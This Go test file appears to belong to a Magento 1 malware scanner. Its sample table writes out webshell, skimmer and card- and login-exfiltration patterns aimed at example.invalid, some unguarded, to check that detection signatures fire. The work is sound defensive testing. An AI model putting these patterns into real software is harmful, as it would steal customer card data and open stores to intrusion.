package m1audit

import (
	"context"
	"errors"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// All samples below are harmless look-alikes written for these tests: they
// contain the shape a signature looks for, guarded by if(false) or pointing
// at example.invalid, and are never executed.
const phpHead = "<?php\n// harmless look-alike written by the m1audit tests\n"
const jsHead = "/* harmless look-alike written by the m1audit tests */\n"

type sample struct {
	sig, path, content string
	line               int
}

var badSamples = []sample{
	{"heur.php.eval_decoded_dynamic", "app/code/local/A/B/x1.php", phpHead + "if (false) { eval(base64_decode($x)); }\n", 3},
	{"heur.php.eval_decoded_dynamic", "app/code/local/A/B/x2.php", phpHead + "if (false) { eval ( gzinflate($y) ); }\n", 3},
	{"php.gzinflate_base64", "lib/Varien/x3.php", phpHead + "$s = gzinflate(base64_decode('AA=='));\n", 3},
	{"php.preg_replace_e", "app/code/local/A/B/x4.php", phpHead + "$r = preg_replace('/x/e', $code, 'x');\n", 3},
	{"php.preg_replace_e_request", "app/code/local/A/B/x4r.php", phpHead + "$r = preg_replace('/.*/e', '\\0', $_REQUEST['q']);\n", 3},
	{"php.preg_replace_e_const", "lib/PEAR/Mail/x4c.php", phpHead + "$v = preg_replace('#([\\x80-\\xFF])#e', '\"%\" . strtoupper(dechex(ord(\"\\1\")))', $v);\n", 3},
	{"php.callback_exec", "app/code/local/A/cb.php", phpHead + "if (false) { array_map('assert', array($x)); }\n", 3},
	{"php.callback_request", "app/code/local/A/cb2.php", phpHead + "if (false) { array_map($_GET['f'], array($_GET['a'])); }\n", 3},
	{"php.adminer", "adminer-look-alike.php", phpHead + "/** look-alike: @link https://www.adminer.org/ */\n", 3},
	{"php.webshell_marker", "lib/Varien/wso.php", phpHead + "// look-alike b374k marker\n", 3},
	{"php.include_non_php", "index2.php", phpHead + "@include \"/var/www/favicon_8f2a.ico\";\n", 3},
	{"php.extract_request", "app/code/local/A/ex.php", phpHead + "extract($_REQUEST);\n", 3},
	{"php.request_called_braces", "app/code/local/A/br.php", phpHead + "if (false) ${'_GET'}['f']($x);\n", 3},
	{"php.payment_post_exfil", "app/code/local/A/Pay.php", phpHead + "$p = Mage::app()->getRequest()->getPost('payment');\nif (false) { file_put_contents('/tmp/look-alike', serialize($p)); }\n", 3},
	{"php.admin_login_exfil", "app/code/local/A/Login.php", phpHead + "public function login($username, $password) {\n if (false) { mail('x@example.invalid', 'l', $username . ':' . $password); }\n}\n", 3},
	{"php.upload_form", "up2.php", phpHead + "?><form method=post enctype=multipart/form-data><input type=\"file\" name=f></form><?php\nif (false) { move_uploaded_file($a, $b); }\n", 3},
	{"php.shell_probe", "lib/probe.php", phpHead + "echo php_uname(); if (false) { echo shell_exec($c); }\n", 3},
	{"js.obfuscator_names", "js/ob.js", jsHead + "var a=_0x1a2b[_0x3c4d];\n", 2},
	{"php.append_to_image", "app/code/local/A/Ap.php", phpHead + "if (false) { $fp = fopen(Mage::getBaseDir() . '/media/wysiwyg/x.jpg', 'a+'); }\n", 3},
	{"php.char_index_assembly", "app/code/local/A/Ci.php", phpHead + "$s = 'opt_s'; $n = $s[3] . $s[0] . $s[1] . $s[4];\n", 3},
	{"php.files_saved_raw", "app/code/local/A/Up.php", phpHead + "if (false) { copy($_FILES['f']['tmp_name'], $d); }\n", 3},
	{"php.mage_bootstrap_deep", "media/x/dump.txt", phpHead + "include '../../../../app/Mage.php'; Mage::app();\n", 3},
	{"php.request_to_file", "app/code/local/A/Log.php", phpHead + "if (false) { file_put_contents('/tmp/look-alike', json_encode($_REQUEST), FILE_APPEND); }\n", 3},
	{"php.stored_card_read", "app/code/local/A/Dump.php", phpHead + "$q->addFieldToFilter('cc_number_enc', array('notnull' => true));\n", 3},
	{"js.eval_by_name", "js/eb.js", jsHead + "if(false){this['eval']('1');}\n", 2},
	{"js.packed_eval", "js/pk.js", jsHead + "eval(function(p,a,c,k,e,d){return p;}('look-alike',1,1,[],0,{}));\n", 2},
	{"js.reversed_string", "js/rv.js", jsHead + "var u='invalid.example//:sptth'.split('').reverse().join('');\n", 2},
	{"any.foreign_script", "app/code/local/A/bot.php", "#!/usr/bin/perl\n# look-alike\n", 1},
	{"php.request_mailed", "app/code/local/A/Ml.php", phpHead + "if (false) { mail('x@example.invalid', 'r', $_POST['password']); }\n", 3},
	{"heur.php.request_to_write", "app/code/local/A/Wr.php", phpHead + "$r = $_REQUEST;\nif (false) { @file_put_contents($r['n'], $r['b']); }\n", 3},
	{"heur.php.named_exec_call", "app/code/local/A/Nc.php", phpHead + "$q = 'assert';\nif (false) { $q($x); }\n", 3},
	{"js.eval_atob", "js/j1.js", jsHead + "if(false){eval(atob('YWxlcnQoMSk='));}\n", 2},
	{"js.checkout_page_list", "js/j2.js", jsHead + "var p='onepage|checkout|onestep';\n", 2},
	{"js.card_field_hex", "js/j3.js", jsHead + "var f=\"\\x63\\x63\\x5f\";\n", 2},
	{"js.script_injection_foreign", "app/design/frontend/base/default/template/page/html/j4.phtml", "<p>look-alike</p>\n<script src=\"https://cdn-example.su/lib.js\"></script>\n", 2},
	{"php.assert_request", "x5.php", phpHead + "if (false) assert($_POST['x']);\n", 3},
	{"php.eval_request", "app/x6.php", phpHead + "if (false) eval(stripslashes($_REQUEST['c']));\n", 3},
	{"php.exec_request", "shell/x7.php", phpHead + "if (false) system($_GET['cmd']);\n", 3},
	{"php.call_request", "errors/x8.php", phpHead + "if (false) $_GET['f']($_GET['a']);\n", 3},
	{"php.create_function_request", "x9.php", phpHead + "$f = create_function('', $_POST['code']);\n", 3},
	{"php.hex_eval", "app/code/local/A/hex.php", phpHead + "$n = \"\\x65\\x76\\x61\\x6C\";\n", 3},
	{"php.hex_base64_decode", "app/code/local/A/hex2.php", phpHead + "$n = \"\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\";\n", 3},
	{"php.globals_hex_index", "app/code/local/A/glob.php", phpHead + "$GLOBALS['\\x61'] = 1;\n", 3},
	{"php.filesman", "lib/fm.php", phpHead + "$name = 'FilesMan';\n", 3},
	{"php.visbot", "app/code/core/Mage/Core/Model/vb.php", phpHead + "// VisBot marker sample\n", 3},
	{"php.raw_uploader", "up.php", phpHead + "move_uploaded_file($_FILES['f']['tmp_name'], 'x/' . $_FILES['f']['name']);\n", 3},
	{"php.cc_exfil", "app/code/local/A/Payment.php", phpHead + "$n = $payment->getCcNumber();\n$z = 1;\nmail('a@example.invalid', 's', $n);\n", 3},
	{"any.htaccess_image_as_php", "media/.htaccess", "# look-alike\nAddType application/x-httpd-php .jpg .png\n", 2},
	{"any.htaccess_files_handler", "skin/.htaccess", "# look-alike\n<FilesMatch \"\\.(jpg|gif)$\">\n  SetHandler application/x-httpd-php\n</FilesMatch>\n", 2},
	{"any.auto_prepend", ".user.ini", "; look-alike\nauto_prepend_file = /tmp/example.php\n", 2},
	{"js.atob_script_src", "js/varien/a.js", jsHead + "var s=document.createElement('script');s.src=atob('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv');\n", 2},
	{"js.atob_then_script", "js/lib/b.js", jsHead + "var u=atob(\"aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=\");var s=document.createElement(\"script\");s.src=u;\n", 2},
	{"js.checkout_btoa", "skin/frontend/base/default/js/c.js", jsHead + "if(location.href.indexOf('onepage')>0){\nvar d=btoa('x');}\n", 2},
	{"js.websocket_literal", "js/d.js", jsHead + "var w=new WebSocket('wss://example.invalid/s');\n", 2},
	{"js.websocket_decoded", "js/e.js", jsHead + "var w=new WebSocket(atob('d3NzOi8vZXhhbXBsZS5pbnZhbGlk'));\n", 2},
	{"js.hex_onepage", "js/f.js", jsHead + "var p=\"\\x6f\\x6e\\x65\\x70\\x61\\x67\\x65\";\n", 2},
	{"js.hex_checkout", "js/g.js", jsHead + "var p=\"\\x63\\x68\\x65\\x63\\x6B\\x6F\\x75\\x74\";\n", 2},
	{"js.card_number_regexp", "js/h.js", jsHead + "var r=new RegExp(\"[0-9]{13,16}\");\n", 2},
	{"js.gate_token", "app/design/frontend/base/default/template/page/x.phtml", "<p>look-alike</p>\n<script>var u='https://example.invalid/gate.php?token=abc';</script>\n", 2},
	{"js.eval_fromcharcode", "js/i.js", jsHead + "if(false){eval(String.fromCharCode(49));}\n", 2},
	{"php.eval_varvar_index", "app/code/local/A/vv.php", phpHead + "$n = 'x';\nif (false) { eval(${$n}['c']); }\n", 4},
	{"php.varvar_escaped_name", "app/code/local/A/vv2.php", phpHead + "${\"\\x47\\x4c\\x4fBALS\"}['k'] = 1;\n", 3},
	{"php.obfuscator_names", "app/code/local/A/oo.php", phpHead + "$OOO0O0O00 = 1;\n", 3},
	{"php.obfuscator_marker", "app/code/local/A/fo.php", phpHead + "/* look-alike: Obfuscation provided by FOPO */\n", 3},
	{"php.upload_client_path", "app/code/local/A/up3.php", phpHead + "if (false) { copy($f['tmp_name'], $f['name']); }\n", 3},
	{"php.remote_code_dropper", "app/code/local/A/dr.php", phpHead + "$c = file_get_contents('http://example.invalid/x.txt');\n$h = fopen('x.php', 'w');\n", 3},
	{"php.standalone_db_dumper", "app/code/local/A/db.php", phpHead + "$l = mysqli_connect('h', 'u', 'p');\n$q = 'SELECT * FROM admin_user';\n", 3},
	{"php.local_xml_credentials", "app/code/local/A/lx.php", phpHead + "$x = simplexml_load_file('app/etc/local.xml'); $l = mysql_connect('h', 'u', 'p');\n", 3},
	{"php.md5_request_gate", "app/code/local/A/gt.php", phpHead + "if (md5($_POST['p']) == '00000000000000000000000000000000') { echo 1; }\n", 3},
	{"php.globals_encoded_names", "app/code/local/A/ge.php", phpHead + "$GLOBALS['_1234_'] = Array(base64_decode('eA=='));\n", 3},
	{"php.substitution_decoder", "app/code/local/A/sd.php", phpHead + "for ($i = 0; $i < strlen($s); $i++) { $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; } $f = base64_decode($o);\n", 3},
	{"php.upload_named_by_client", "app/code/local/A/un.php", phpHead + "$n = $_FILES['f']['name']; move_uploaded_file($t, $d . $n);\n", 3},
	{"any.htaccess_files_image_handler", "app/code/local/A/hf.php", "<Files *x.png>\nForceType application/x-httpd-php\n</Files>\n", 1},
	{"php.post_to_static_file", "app/code/local/A/ps.php", phpHead + "if ($_POST) { $f = '/var/www/media/x.gif'; $h = fopen($f, 'a'); }\n", 3},
	{"php.reversed_url", "app/code/local/A/ru.php", phpHead + "$u = strrev('dilavni.elpmaxe//:sptth');\n", 3},
	{"php.geo_mailer", "app/code/local/A/gm.php", phpHead + "$g = 'geoplugin'; mail($a, $b, $g);\n", 3},
	{"php.eval_bareword_base64", "app/code/local/A/eb.php", phpHead + "if (false) eval(base64_decode(ZWNobyAnbG9vay1hbGlrZSc7ZWNobyAnbG9vay1hbGlrZSc7));\n", 3},
	{"php.eval_close_tag_decoded", "app/code/local/A/ec.php", phpHead + "if (false) eval('?>' . base64_decode('eA=='));\n", 3},
	{"php.request_forwarded_encoded", "app/code/local/A/rf.php", phpHead + "$d = $_POST; $e = base64_encode(serialize($d)); file_get_contents('https://example.invalid/?d=' . $e);\n", 3},
	{"php.order_posted_out", "app/code/local/A/op.php", phpHead + "$url = 'https://example.invalid/u.php';\n$o = $ev->getOrder(); curl_exec($ch);\n", 3},
	{"php.cookie_keyed_xor", "app/code/local/A/xk.php", phpHead + "$c = $p ^ str_repeat($_COOKIE['k'], 9);\n", 3},
	{"php.eval_decrypted", "app/code/local/A/ed.php", phpHead + "if (false) eval(xxtea_decrypt($s, 'k'));\n", 3},
	{"php.reversed_name_fragment", "app/code/local/A/rn.php", phpHead + "$d = strrev('edoced');\n", 3},
	{"php.nested_variable_calls", "app/code/local/A/nv.php", phpHead + "if (false) $a($b($c($d($x))));\n", 3},
	{"php.eval_nested_variable_calls", "app/code/local/A/en.php", phpHead + "if (false) eval($a($b($x)));\n", 3},
	{"php.writes_shared_library", "app/code/local/A/so.php", phpHead + "file_put_contents('x.so', $b);\n", 3},
	{"php.bot_shell_commands", "app/code/local/A/bs.php", phpHead + "if (false) system('nohup ./x &');\n", 3},
	{"php.inflated_function", "app/code/local/A/if.php", phpHead + "if ($p = gzinflate($p)) { $f = create_function('', $p); }\n", 3},
	{"php.request_udp_sender", "app/code/local/A/ud.php", phpHead + "$h = $_GET['h']; $fp = fsockopen('udp://' . $h, 9);\n", 3},
	{"php.escaped_request_index", "app/code/local/A/ei.php", phpHead + "$u = $_SERVER[\"\\x48\\x54\\x54\\x50\"];\n", 3},
	{"html.script_atob", "errors/default/page.html", "<html>\n<script>var u=atob(\"aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=\");var s=document.createElement(\"script\");</script>\n</html>\n", 2},
}

func shipped(t testing.TB) *Signatures {
	t.Helper()
	sigs, err := LoadSignaturesFS(Shipped())
	if err != nil {
		t.Fatal(err)
	}
	return sigs
}

// cleanTree writes a small Magento-1-shaped store full of code that looks
// close to the signatures but is benign, the false-positive guard.
func cleanTree(t *testing.T, root string) {
	t.Helper()
	files := map[string]string{
		"index.php":                              phpHead + "require 'app/Mage.php';\nMage::run($code, $type);\n",
		"app/Mage.php":                           phpHead + "final class Mage { public static function run($c, $t) { return base64_decode($c); } }\n",
		"app/etc/local.xml":                      "<config><admin><routers><adminhtml><args><frontName><![CDATA[shop_backend]]></frontName></args></adminhtml></routers></admin></config>\n",
		"app/code/core/Mage/Payment/Model/X.php": phpHead + "$last4 = substr($payment->getCcNumber(), -4);\n" + strings.Repeat("// padding so no exfil call sits near the card read\n", 12) + "file_put_contents($log, 'done');\n",
		"app/code/core/Mage/Core/Helper/S.php":   phpHead + "$s = preg_replace('/\\s+/i', ' ', $s);\n$t = preg_replace('#<br\\s*/?>#', \"\\n\", $t);\nif (isset($_POST['form_key'])) { $k = $_POST['form_key']; }\n$z = gzinflate($raw);\n",
		"app/design/frontend/base/default/template/googleanalytics/ga.phtml": "<script>\n(function() {\nvar ga = document.createElement('script'); ga.type = 'text/javascript'; ga.async = true;\nga.src = ('https:' == document.location.protocol ? 'https://ssl' : 'http://www') + '.google-analytics.com/ga.js';\n})();\n</script>\n",
		"js/varien/form.js":                           "var VarienForm = Class.create();\nVarienForm.prototype = { submit: function(url){ if (this.validator.validate()) { this.form.submit(); } } };\n",
		"js/prototype/prototype.js":                   "var json = eval('(' + text + ')');\nvar enc = encodeURIComponent(value);\n",
		"skin/frontend/base/default/js/opcheckout.js": "var Checkout = Class.create();\nCheckout.prototype = { gotoSection: function(section){ $('opc-' + section).addClassName('active'); } };\n// onepage checkout steps\n",
		".htaccess":                                 "############################################\n#AddType x-mapp-php5 .php\n#AddHandler x-mapp-php5 .php\nDirectoryIndex index.php\n",
		"media/.htaccess":                           "Options -ExecCGI\n<IfModule mod_php5.c>\nphp_flag engine 0\n</IfModule>\nAddHandler cgi-script .php .pl .py .jsp .asp .htm .shtml .sh .cgi\n",
		"errors/default/page.html":                  "<html><body><p>There has been an error processing your request</p></body></html>\n",
		"var/log/system.log":                        "eval(base64_decode( looks scary but var/log is not code\n",
		"skin/frontend/base/default/css/styles.css": "body { background: url(../images/bg.png); }\n",
	}
	for p, c := range files {
		writeFile(t, filepath.Join(root, p), c)
	}
	// Images with random pixels that happen to hold a bare "<?=" but no PHP.
	rng := rand.New(rand.NewSource(5))
	for i := 0; i < 20; i++ {
		b := make([]byte, 4096)
		rng.Read(b)
		copy(b, []byte{0xFF, 0xD8, 0xFF, 0xE0})
		copy(b[1000:], "<?= ")
		for j := range b {
			if b[j] == '?' && j+1 < len(b) && b[j+1] == '>' {
				b[j] = '!'
			}
		}
		p := filepath.Join(root, "media", "catalog", "product", fmt.Sprintf("p%d.jpg", i))
		writeFile(t, p, string(b))
	}
}

func TestScanFilesCleanTreeHasNoFindings(t *testing.T) {
	root := t.TempDir()
	cleanTree(t, root)
	findings, err := ScanFiles(context.Background(), root, shipped(t), ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range findings {
		t.Errorf("false positive on clean tree: %+v", f)
	}
}

func TestScanFilesEveryShippedSignatureFires(t *testing.T) {
	sigs := shipped(t)
	root := t.TempDir()
	cleanTree(t, root)
	bySig := map[string]sample{}
	for _, s := range badSamples {
		writeFile(t, filepath.Join(root, s.path), s.content)
		bySig[s.sig] = s
	}
	// A shipped signature without a sample here is untested data.
	for _, s := range sigs.All() {
		if _, ok := bySig[s.ID]; !ok {
			t.Errorf("shipped signature %s has no bad sample in this test", s.ID)
		}
	}
	findings, err := ScanFiles(context.Background(), root, sigs, ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	type key struct {
		sig, path string
		line      int
	}
	got := map[key]Finding{}
	for _, f := range findings {
		if f.CheckID == CheckSignature || f.CheckID == CheckInformational {
			got[key{f.SignatureID, f.Path, f.Line}] = f
		}
	}
	for _, s := range badSamples {
		f, ok := got[key{s.sig, s.path, s.line}]
		if !ok {
			t.Errorf("%s not reported on %s:%d", s.sig, s.path, s.line)
			continue
		}
		if f.Evidence == "" || f.Severity == "" {
			t.Errorf("%s: finding lacks evidence or severity: %+v", s.sig, f)
		}
	}
}

func TestScanFilesScopes(t *testing.T) {
	root := t.TempDir()
	// JS indicator inside PHP and PHP indicator inside JS: wrong language,
	// so neither may fire (they would be false positives in real stores,
	// e.g. a PHP helper that documents a WebSocket URL).
	writeFile(t, filepath.Join(root, "app/code/local/A/ws.php"), phpHead+"$doc = \"new WebSocket('wss://example.invalid')\";\n")
	writeFile(t, filepath.Join(root, "js/x.js"), jsHead+"// eval(base64_decode($x)) in a comment of a JS file\n")
	// .phtml gets both PHP and HTML signatures.
	writeFile(t, filepath.Join(root, "app/design/t.phtml"), "<?php if (false) eval($_POST['a']); ?>\n<script>var u=atob(\"aHR0cHM6Ly9leGFtcGxlLmludmFsaWQ=\");var s=document.createElement('script');</script>\n")
	findings, err := ScanFiles(context.Background(), root, shipped(t), ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, f := range findings {
		ids = append(ids, f.Path+"#"+f.SignatureID)
	}
	// by line; the inline script also gets the JavaScript signatures and
	// heuristics.
	want := []string{"app/design/t.phtml#php.eval_request", "app/design/t.phtml#heur.js.base64_payload", "app/design/t.phtml#html.script_atob", "app/design/t.phtml#js.atob_then_script"}
	if strings.Join(ids, ",") != strings.Join(want, ",") {
		t.Fatalf("findings = %v, want %v", ids, want)
	}
}

func TestScanFilesPHPInImagesAndStaticDirs(t *testing.T) {
	root := t.TempDir()
	jpeg := "\xFF\xD8\xFF\xE0\x00\x10JFIF\x00" + strings.Repeat("\x00\x7f", 50)
	gif := "GIF89a\x01\x00\x01\x00" + strings.Repeat("\x01", 30)
	files := map[string]string{
		"media/catalog/product/a/b/shell.jpg": jpeg + "\n<?PHP /* look-alike */ ?>",
		"skin/frontend/x/images/pixel.gif":    gif + "<?= $look_alike ?>",
		"js/lib/noext":                        jpeg + "<?php /* image magic, no extension */",
		"media/wysiwyg/banner.png.txt":        "\x89PNG\r\n\x1a\n" + "<?php",
		"app/design/frontend/x/logo.jpg":      jpeg + "<?php /* outside static dirs: checked everywhere */",
		"media/upload/x.php":                  phpHead + "echo 1;\n",
		"skin/error.php":                      phpHead + "echo 1;\n",
		"media/y.PHTML":                       "<?php echo 1;\n",
		"js/index.php":                        phpHead + "// stock-looking file\n",
		"media/ok.jpg":                        jpeg,
		"skin/fonts/x.woff":                   "wOFF\x00\x01<?php /* not an image: fonts are not PHP carriers here */",
	}
	for p, c := range files {
		writeFile(t, filepath.Join(root, p), c)
	}
	findings, err := ScanFiles(context.Background(), root, shipped(t), ScanOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range findings {
		got = append(got, fmt.Sprintf("%s %s %s %v", f.CheckID, f.Path, f.Severity, f.NeedsPerson))
	}
	want := []string{
		"m1.files.php_in_image app/design/frontend/x/logo.jpg critical false",
		"m1.files.php_in_static js/index.php medium true",
		"m1.files.php_in_image js/lib/noext critical false",
		"m1.files.php_in_image media/catalog/product/a/b/shell.jpg critical false",
		"m1.files.php_in_static media/upload/x.php critical false",
		"m1.files.php_in_image media/wysiwyg/banner.png.txt critical false",
		"m1.files.php_in_static media/y.PHTML critical false",
		"m1.files.php_in_static skin/error.php critical false",
		"m1.files.php_in_image skin/frontend/x/images/pixel.gif critical false",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("got:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	for _, f := range findings {
		if f.Path == "media/catalog/product/a/b/shell.jpg" && (f.Line != 2 || f.Evidence != "<?PHP") {
			t.Errorf("evidence/line of PHP-in-JPEG = %q/%d, want \"<?PHP\"/2", f.Evidence, f.Line)
		}
	}
}

func TestScanFilesSymlinkLoopsSkipDirsAndSizeLimit(t *testing.T) {
	root := t.TempDir()
	outside := t.TempDir()
	writeFile(t, filepath.Join(root, "app/code/local/A/m.php"), phpHead+"$n = 'FilesMan';\n")
	// modman-style link to code outside the root is followed.
	writeFile(t, filepath.Join(outside, "ext/Shell.php"), phpHead+"$n = 'FilesMan';\n")
	if err := os.Symlink(filepath.Join(outside, "ext"), filepath.Join(root, "app/code/local/Ext")); err != nil {
		t.Fatal(err)
	}
	// Loops: a link to an ancestor and a link to itself's parent chain.
	if err := os.Symlink("../..", filepath.Join(root, "app/code/loop")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(root, filepath.Join(root, "app/rootlink")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(root, "gone"), filepath.Join(root, "dangling.php")); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(root, "var/cache/mage--a/x.php"), phpHead+"$n = 'FilesMan';\n")
	writeFile(t, filepath.Join(root, "var/tmp/y.php"), phpHead+"$n = 'FilesMan';\n")
	writeFile(t, filepath.Join(root, "js/big.js"), strings.Repeat("a", 2048))
	writeFile(t, filepath.Join(root, "app/skipme/z.php"), phpHead+"$n = 'FilesMan';\n")

	findings, err := ScanFiles(context.Background(), root, shipped(t), ScanOptions{MaxFileSize: 1024, Skip: []string{"app/skipme"}})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range findings {
		got = append(got, f.CheckID+" "+f.Path)
	}
	// Each real file once, under the first path that reached it; the Skip
	// directory skipped; var/cache scanned (PHP there is planted); big file
	// reported, not silently ignored.
	want := []string{
		"m1.files.signature app/code/local/A/m.php",
		"m1.files.signature app/code/local/Ext/Shell.php",
		"m1.files.unscanned js/big.js",
		"m1.files.php_in_static var/cache/mage--a/x.php",
		"m1.files.signature var/cache/mage--a/x.php",
		"m1.files.php_in_static var/tmp/y.php",
		"m1.files.signature var/tmp/y.php",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Fatalf("got:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestScanFilesCancelled(t *testing.T) {
	root := t.TempDir()
	cleanTree(t, root)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := ScanFiles(ctx, root, shipped(t), ScanOptions{})
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("want context.Canceled, got %v", err)
	}
}

func TestScanFilesBadInput(t *testing.T) {
	if _, err := ScanFiles(context.Background(), t.TempDir(), nil, ScanOptions{}); err == nil {
		t.Error("nil signatures accepted")
	}
	f := filepath.Join(t.TempDir(), "file")
	writeFile(t, f, "x")
	if _, err := ScanFiles(context.Background(), f, shipped(t), ScanOptions{}); err == nil || !strings.Contains(err.Error(), "not a directory") {
		t.Errorf("file as root: %v", err)
	}
}

func TestExcerptEscapesAndTruncates(t *testing.T) {
	data := []byte("ab\x1b[31m\\\n\tc\xffdefghij")
	got := excerpt(data, 0, len(data), 10)
	want := `ab\x1b[31m\\\n\t…`
	if got != want {
		t.Fatalf("excerpt = %q, want %q", got, want)
	}
	if got := excerpt([]byte("short"), 1, 4, 120); got != "hor" {
		t.Fatalf("excerpt = %q", got)
	}
}
